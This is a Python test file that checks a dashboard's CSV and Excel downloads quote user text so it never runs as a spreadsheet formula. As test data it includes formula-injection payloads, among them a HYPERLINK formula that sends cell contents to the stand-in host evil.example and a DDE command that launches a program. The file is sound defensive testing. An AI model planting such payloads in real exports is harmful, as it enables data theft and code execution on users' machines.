"""Every CSV and Excel download goes through one guard: text from users never runs as a
spreadsheet formula (issue 7, finding 10)."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pandas as pd
import pytest
from openpyxl import load_workbook

from dashboard.exports import csv_bytes, xlsx_bytes
from data_access.text import export_cell

ROOT = Path(__file__).resolve().parents[2]
HYPERLINK = '=HYPERLINK("https://evil.example/?"&A1,"click")'


def _survey_like_frame() -> pd.DataFrame:
    # What pages/survey_results.py exports: a PR-written item and an old department whose
    # English name was stored before names were checked.
    return pd.DataFrame([
        {"department": "=1+1", "item": HYPERLINK, "n": 12, "favorable": 75.0},
        {"department": "Roads", "item": "+cmd|' /C calc'!A0", "n": 7, "favorable": None},
        {"department": "@SUM(A1)", "item": "-2+3", "n": 9, "favorable": 60.5},
        {"department": "\t=1", "item": "\t@A1", "n": 5, "favorable": 50.0},
    ])


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@A1", "\t=1", "\r=1", "\n=1",
                                   "\uff1d1+1", HYPERLINK])
def test_export_cell_quotes_what_a_spreadsheet_would_run(value):
    assert export_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Roads", "راه و ترابری", "a=b", "", 5, -3, 2.5, None])
def test_export_cell_leaves_other_values_alone(value):
    assert export_cell(value) == value


def test_csv_cells_start_with_an_apostrophe():
    text = csv_bytes(_survey_like_frame()).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows[1][:2] == ["'=1+1", "'" + HYPERLINK]
    assert rows[2][1].startswith("'+") and rows[3][0] == "'@SUM(A1)"
    assert rows[3][1] == "'-2+3" and rows[4][:2] == ["'\t=1", "'\t@A1"]
    assert rows[1][2] == "12"  # numbers stay numbers


def test_xlsx_has_no_formula_cell():
    book = load_workbook(io.BytesIO(xlsx_bytes(_survey_like_frame(), "results",
                                               right_to_left=True)))
    sheet = book["results"]
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert [cell for cell in cells if cell.data_type == "f"] == []
    assert sheet["A2"].value == "'=1+1" and sheet["B2"].value == "'" + HYPERLINK
    assert sheet["C2"].value == 12
    assert sheet.sheet_view.rightToLeft


def test_no_export_bypasses_the_guard():
    """A new download written with pandas' own to_csv/to_excel would skip export_cell."""
    offenders = [str(path.relative_to(ROOT)) for folder in ("pages", "dashboard", "data_access")
                 for path in (ROOT / folder).rglob("*.py")
                 if path.name != "exports.py"
                 and any(call in path.read_text(encoding="utf-8")
                         for call in (".to_csv(", ".to_excel(", "ExcelWriter("))]
    assert offenders == []
